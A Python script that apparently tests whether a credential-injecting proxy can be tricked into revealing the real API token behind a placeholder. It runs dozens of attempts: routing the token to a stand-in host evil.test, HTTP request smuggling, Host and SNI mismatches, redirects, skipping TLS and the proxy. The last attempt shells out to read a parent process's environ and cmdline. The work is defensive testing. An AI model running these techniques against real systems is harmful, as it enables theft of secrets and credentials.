# Attempts of a program at getting at the value behind its placeholder. Each prints what came of
# it; whoever started this looks for the value in all of it, and asks the servers what they saw.
import base64, os, socket, ssl, subprocess, urllib.request, zlib

TOKEN = os.environ["API_TOKEN"]
user, place = os.environ["HTTPS_PROXY"].split("//")[1].split("@")
PROXY = (place.split(":")[0], int(place.split(":")[1]))
CREDENTIAL = "Basic " + base64.b64encode(user.encode()).decode()
CONTEXT = ssl.create_default_context()


def read(s):
    data = b""
    s.settimeout(3)
    try:
        while piece := s.recv(65536):
            data += piece
            head, _, body = data.partition(b"\r\n\r\n")
            lengths = [line[15:] for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
            if body is not None and lengths and len(body) >= int(lengths[0]):
                break
    except (TimeoutError, OSError):
        pass
    return data


def connect(host="api.test", port=443, credential=CREDENTIAL, head=""):
    s = socket.create_connection(PROXY)
    line = f"Proxy-Authorization: {credential}\r\n" if credential else ""
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n{line}{head}\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = s.recv(1)
        if not piece:
            break
        answer += piece
    if b" 200" not in answer.split(b"\r\n")[0]:
        raise OSError(answer.split(b"\r\n")[0].decode() + read(s).decode())
    return s


def tls(host="api.test", name=None, context=CONTEXT, **more):
    s = connect(host, **more)
    return context.wrap_socket(s, server_hostname=name or host)


def sent(text, host="api.test", **more):
    s = tls(host, **more)
    s.sendall(text if isinstance(text, bytes) else text.encode())
    return read(s)


def get(path="/echo", host="api.test", headers="", line=None):
    line = line or f"GET {path} HTTP/1.1"
    return f"{line}\r\nHost: {host}\r\nConnection: close\r\nAuthorization: {TOKEN}\r\n{headers}\r\n"


def trusting():
    # A program that checks no certificate.
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def attempt(name, work):
    try:
        came = work()
    except Exception as error:  # whatever it is, it is told
        came = repr(error)
    if isinstance(came, bytes):
        came = came.decode("latin1")
    print("attempt", name, "|", repr(came)[:1500], flush=True)


# The one that works, and comes back as a placeholder.
attempt("plain echo", lambda: sent(get()))
attempt("other host", lambda: sent(get(host="evil.test"), "evil.test"))
attempt("other port", lambda: sent(get(host="api.test:8443"), "api.test", port=8443))
attempt("address instead of the name", lambda: sent(get(host="127.0.0.1"), "127.0.0.1", context=trusting(), port=443))
attempt("trailing dot", lambda: sent(get(host="api.test."), "api.test.", name="api.test"))
attempt("other case", lambda: sent(get(host="API.TEST"), "API.TEST", name="api.test"))
attempt("a name that begins so", lambda: sent(get(host="api.test.evil.test"), "api.test.evil.test"))
attempt("a name that ends so", lambda: sent(get(host="xapi.test"), "xapi.test", context=trusting()))
attempt("punycode alike", lambda: sent(get(host="xn--pi-qia.test"), "xn--pi-qia.test", context=trusting()))
attempt("userinfo in the tunnel", lambda: sent(get(), "api.test@evil.test", name="api.test"))
attempt("Host of another", lambda: sent(get(host="evil.test")))
attempt("Host twice", lambda: sent(get(headers="Host: evil.test\r\n")))
attempt("no Host", lambda: sent(f"GET /echo HTTP/1.1\r\nAuthorization: {TOKEN}\r\n\r\n"))
attempt("absolute address of another", lambda: sent(get(line="GET https://evil.test/echo HTTP/1.1")))
attempt("absolute address, other scheme", lambda: sent(get(line="GET http://api.test/echo HTTP/1.1")))
attempt("userinfo in the address", lambda: sent(get(line="GET https://api.test@evil.test/echo HTTP/1.1")))
attempt("server name of another", lambda: sent(get(), "api.test", name="evil.test", context=trusting()))
attempt("server name of the host, tunnel to another", lambda: sent(get(), "evil.test", name="api.test", context=trusting()))
attempt("tunnel in a tunnel", lambda: sent(get(line="CONNECT evil.test:443 HTTP/1.1")))
attempt("redirect", lambda: urllib.request.urlopen(urllib.request.Request(
    "https://api.test/redirect?to=https://evil.test/echo", headers={"Authorization": TOKEN})).read())
attempt("compressed", lambda: zlib.decompress(sent(get("/gzip", headers="Accept-Encoding: gzip\r\n")).split(b"\r\n\r\n", 1)[1], 31))
attempt("compressed another way", lambda: sent(get("/brotli", headers="Accept-Encoding: br\r\n")))
attempt("in chunks", lambda: sent(get("/chunks")))
attempt("encoded by the server", lambda: sent(get("/forms")))
attempt("in the reason", lambda: sent(get("/reason")))
attempt("a part", lambda: sent(get("/range", headers="Range: bytes=0-100\r\n")))
attempt("a part, if the same", lambda: sent(get("/range", headers='Range: bytes=0-100\r\nIf-Range: "x"\r\n')))
half = len(TOKEN) // 2
attempt("split over two headers", lambda: sent(
    f"GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nX-A: {TOKEN[:half]}\r\nX-B: {TOKEN[half:]}\r\n\r\n"))
attempt("folded header", lambda: sent(
    f"GET /echo HTTP/1.1\r\nHost: api.test\r\nX-A: x\r\n {TOKEN}\r\n\r\n"))
attempt("HTTP/1.0", lambda: sent(f"GET /echo HTTP/1.0\r\nAuthorization: {TOKEN}\r\n\r\n"))
attempt("HTTP/0.9", lambda: sent("GET /echo\r\n\r\n"))
attempt("two lengths", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nContent-Length: 4\r\nAuthorization: {TOKEN}\r\n\r\nabcd"))
attempt("two different lengths", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nContent-Length: 40\r\nAuthorization: {TOKEN}\r\n\r\nabcd"))
attempt("length and chunks", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nAuthorization: {TOKEN}\r\n\r\n0\r\n\r\n"))
attempt("another transfer coding", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip, chunked\r\nAuthorization: {TOKEN}\r\n\r\n0\r\n\r\n"))
attempt("smuggled second request", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: identity\r\n\r\n0\r\n\r\n"
    + get(host="evil.test")))
attempt("line ends without return", lambda: sent(f"GET /echo HTTP/1.1\nHost: evil.test\nAuthorization: {TOKEN}\n\n"))
attempt("in the query", lambda: sent(get(f"/echo?t={TOKEN}")))
attempt("in the path", lambda: sent(get(f"/echo/{TOKEN}")))
attempt("in the body", lambda: sent(
    f"POST /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nContent-Length: {len(TOKEN)}\r\n\r\n{TOKEN}"))
attempt("to a host of another secret", lambda: sent(get(host="other.wild.test"), "other.wild.test"))
attempt("as Basic to a host of another secret", lambda: sent(
    "GET /echo HTTP/1.1\r\nHost: other.wild.test\r\nAuthorization: Basic "
    + base64.b64encode(f"me:{TOKEN}".encode()).decode() + "\r\n\r\n", "other.wild.test"))
attempt("named by Connection", lambda: sent(get(headers="Connection: authorization, host\r\n")))
attempt("without TLS", lambda: urllib.request.urlopen(urllib.request.Request(
    "http://api.test/echo", headers={"Authorization": TOKEN})).read())
attempt("without TLS in the tunnel", lambda: (lambda s: (s.sendall(get().encode()), read(s))[1])(connect()))
attempt("without the credential", lambda: sent(get(), credential=None))
attempt("with a wrong credential", lambda: sent(get(), credential="Basic " + base64.b64encode(b"authy:x").decode()))
attempt("past the proxy", lambda: (lambda s: (s.sendall(get().encode()), read(s))[1])(
    CONTEXT.wrap_socket(socket.create_connection(("127.0.0.1", 9)), server_hostname="api.test")))
attempt("from authy itself", lambda: subprocess.run(
    ["sh", "-c", "authy get api-token --scope other; cat /proc/$PPID/environ /proc/$PPID/cmdline; ls /proc/*/mem >/dev/null"],
    capture_output=True, timeout=20).stdout)
